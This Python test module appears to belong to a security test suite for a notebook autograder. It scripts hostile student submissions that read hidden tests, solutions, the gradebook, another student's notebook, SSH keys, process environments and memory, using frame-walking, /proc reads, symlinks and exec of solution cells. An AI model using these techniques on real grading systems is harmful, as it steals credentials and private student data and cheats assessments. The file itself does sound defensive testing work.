"""Class F: attacks on secrets: hidden tests, solutions, others' work, the grader's home."""

from __future__ import annotations

from tests.attacks.declare import attack
from tests.attacks.hostile import OTHERS, ROOT, Submission

#: Shows what a tested function has kept, in a cell that is run when all tests are done.
REPORT = """
import re
print(set(re.findall(r"[^\\n]{0,80}(?:CANARY_\\w+|HIDDEN TESTS)", "\\n".join(kept))), len(kept))
"""


def _spy(sub: Submission, body: str) -> None:
    """Code that is run while a test calls a function of the student's; it shows and keeps."""
    rows = "\n".join(f"    {row}" for row in body.strip().split("\n"))
    sub.answer(
        "q7-factorials",
        f"""
import builtins

kept = []


def print(*things):
    kept.append(str(things))
    builtins.print(*things)


def factorials(numbers=(), max_workers=3, func=None):
{rows}
""",
    )
    sub.last(REPORT)


@attack(
    "F",
    "secret",
    "a tested function reads the running cell in IPython's history",
    on="q7_thread_pool",
)
def running_cell(sub: Submission) -> None:
    _spy(
        sub,
        "print([get_ipython().user_ns.get('In'), get_ipython().history_manager.input_hist_raw])",
    )


@attack(
    "F", "secret", "a tested function searches all living strings and code", on="q7_thread_pool"
)
def living_strings(sub: Submission) -> None:
    _spy(
        sub,
        """
import gc
for thing in gc.get_objects():
    for part in gc.get_referents(thing):
        if type(part) is str and ("HIDDEN" in part or "CANARY" in part):
            print(part)
            return []
        constants = getattr(part, "co_consts", ())
        if any(type(c) is str and "CANARY" in c for c in constants):
            print(constants)
            return []
""",
    )


@attack("F", "secret", "a tested function walks the frames of all threads", on="q7_thread_pool")
def all_frames(sub: Submission) -> None:
    _spy(
        sub,
        """
import inspect, sys
for frame in list(sys._current_frames().values()):
    while frame:
        print(repr(dict(frame.f_locals))[:5000])
        try:
            print(inspect.getsource(frame.f_code))
        except Exception:
            pass
        frame = frame.f_back
""",
    )


@attack(
    "F", "secret", "the cells' texts in linecache and in IPython's compiler", on="q7_thread_pool"
)
def line_cache(sub: Submission) -> None:
    _spy(
        sub,
        """
import linecache
print([entry for entry in linecache.cache.items() if "Claim" in str(entry)])
""",
    )


@attack("F", "secret", "the handed-in callable's code, closure and globals", on="q7_thread_pool")
def callable_from_inside(sub: Submission) -> None:
    _spy(
        sub,
        """
import inspect
todo, known = [func], set()
while todo and len(known) < 3000:
    thing = todo.pop(0)
    if id(thing) in known or thing is None:
        continue
    known.add(id(thing))
    for name in ("__closure__", "__globals__", "__code__", "__self__", "__wrapped__", "__func__"):
        part = getattr(thing, name, None)
        print(repr(part)[:3000]) if name == "__globals__" else None
        parts = part if name == "__closure__" and part else [part]
        todo += [getattr(cell, "cell_contents", cell) for cell in parts]
    try:
        todo += list(vars(thing).values()) if not isinstance(thing, type) else []
        print(inspect.getsource(thing))
    except (TypeError, OSError):
        pass
""",
    )


@attack("F", "secret", "reads the gradebook: other students' names and marks, and the tests")
def read_the_gradebook(sub: Submission) -> None:
    sub.add("\nprint(open(THE_COURSE + '/gradebook.db', 'rb').read().decode('latin-1'))")


@attack("F", "secret", "reads another student's submission", on="q7_thread_pool")
def read_the_victim(sub: Submission) -> None:
    sub.add(
        """
import pathlib
for place in ("submitted/zz_victim", "autograded/zz_victim", "feedback"):
    for path in pathlib.Path(THE_COURSE, place).rglob("*.*"):
        print(path.read_text())
"""
    )


@attack("F", "secret", "reads the sources with hidden tests and solutions", on="q5_sharing_data")
def read_the_source(sub: Submission) -> None:
    sub.add(
        """
import pathlib
for path in pathlib.Path(THE_COURSE, "source").rglob("*.ipynb"):
    print(path.read_text())
"""
    )


@attack("F", "secret", "reads keys and tokens in the grader's home", on="q7_thread_pool")
def read_the_home(sub: Submission) -> None:
    sub.add(
        """
import pathlib
for home in (pathlib.Path.home(), pathlib.Path(THE_HOME)):
    for path in home.glob(".*/*"):
        print(path.read_text() if path.is_file() else path)
"""
    )


@attack("F", "secret", "its own environment and those of all processes", on="q7_thread_pool")
def read_environments(sub: Submission) -> None:
    sub.add(
        OTHERS
        + """
print(dict(os.environ))
for pid in others():
    try:
        print(pathlib.Path(f"/proc/{pid}/environ").read_text())
    except OSError:
        continue
"""
    )


@attack("F", "secret", "the memory of all other processes", alone=True)
def read_memories(sub: Submission) -> None:
    sub.add(
        OTHERS
        + r"""
import re
for pid in others():
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in open(f"/proc/{pid}/maps"):
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                if " rw-p " in line and high - low < 64_000_000:
                    memory.seek(low)
                    for found in set(re.findall(rb"CANARY_\w+", memory.read(high - low))):
                        print(found.decode())
    except OSError:
        continue
"""
    )


@attack("F", "secret", "open files, sockets and working folders of all other processes", alone=True)
def read_open_files(sub: Submission) -> None:
    sub.add(
        OTHERS
        + """
for pid in others():
    place = pathlib.Path(f"/proc/{pid}")
    for path in [*place.glob("fd/*"), *place.glob("cwd/source/*/*")]:
        try:
            if path.is_file():
                print(path.read_bytes().decode("latin-1")[:2_000_000])
        except OSError:
            continue
"""
    )


@attack("F", "secret", "links in the submission to secret files", on="q7_thread_pool")
def links_to_secrets(sub: Submission) -> None:
    root = sub.folder.root
    source = root / "source" / sub.assignment / sub.path.name
    for name, target in (
        ("notes.txt", source),
        ("book.html", root / "gradebook.db"),
        ("theirs.txt", sub.victim / sub.path.name),
        ("key.txt", sub.home / ".ssh" / "id_grader"),
        ("all", root / "source"),
    ):
        (sub.place / name).symlink_to(target)


@attack(
    "F",
    "secret",
    "the notebook is a link to the source with its solutions",
    on="q3_multiprocessing",
)
def notebook_links_to_source(sub: Submission) -> None:
    sub.path.symlink_to(sub.folder.source / sub.assignment / sub.path.name)
    sub.nothing = True


@attack("F", "secret", "the notebook is a link to the honest student's", on="q1_scenarios")
def notebook_links_to_victim(sub: Submission) -> None:
    sub.path.symlink_to(sub.victim / sub.path.name)
    sub.nothing = True


@attack(
    "F",
    "secret",
    "a hard link to the honest student's notebook as an extra file",
    on="q7_thread_pool",
)
def hard_link(sub: Submission) -> None:
    (sub.place / "data.csv").hardlink_to(sub.victim / sub.path.name)


@attack("F", "secret", "timestamp.txt is a link to a key", on="q7_thread_pool")
def timestamp_links(sub: Submission) -> None:
    (sub.place / "timestamp.txt").symlink_to(sub.home / ".ssh" / "id_grader")


@attack(
    "F", "secret", "no attack at all: what ordinary wrong answers are shown", on="q7_thread_pool"
)
def ordinary_feedback(sub: Submission) -> None:
    sub.answer("q7-factorials", "def factorials(*args, **kwargs):\n    return [6, 1, 24]")


@attack(
    "F", "secret", "errors of callables bring the source lines of hidden tests", on="q7_thread_pool"
)
def tracebacks_of_callables(sub: Submission) -> None:
    _spy(
        sub,
        """
import traceback
for arguments in ((), ("x",), (None, None)):
    try:
        (func or (lambda: None))(*arguments)
    except BaseException as error:
        print("".join(traceback.format_exception(error)))
        raise
""",
    )


@attack("F", "points", "loads and runs the instructor's solutions from source/")
def run_the_solution(sub: Submission) -> None:
    sub.add(_run_solutions("THE_COURSE + '/source/q4_race_conditions/race_conditions.ipynb'"))


@attack("F", "points", "loads and runs the solutions of the repository that the course is in")
def run_the_repository(sub: Submission) -> None:
    path = ROOT / "source" / "q4_race_conditions" / "race_conditions.ipynb"
    sub.add(_run_solutions(repr(str(path))))


@attack("F", "points", "loads and runs another student's answers", on="q5_sharing_data")
def run_the_victim(sub: Submission) -> None:
    path = "THE_COURSE + '/submitted/zz_victim/q5_sharing_data/sharing_data.ipynb'"
    sub.last(_run_solutions(path))
    sub.answer("q5-counter", sub.notebook.cells.pop().source)


def _run_solutions(path: str) -> str:
    return f"""
import json

for cell in json.load(open({path}))["cells"]:
    if cell["metadata"].get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
        try:
            exec("".join(cell["source"]), globals())
        except Exception:
            continue
"""


@attack(
    "F",
    "points",
    "the examiner's modules tell the answers to whoever imports them",
    on="q5_sharing_data",
)
def ask_the_grading_room(sub: Submission) -> None:
    sub.add(
        """
from course.grading import samples
from course.grading.folder import Folder
import pathlib

for root in (THE_COURSE, pathlib.Path(samples.__file__).parents[2]):
    for cell in samples.complete(Folder(pathlib.Path(root)), "q5_sharing_data").cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            exec(cell.source, globals())
"""
    )
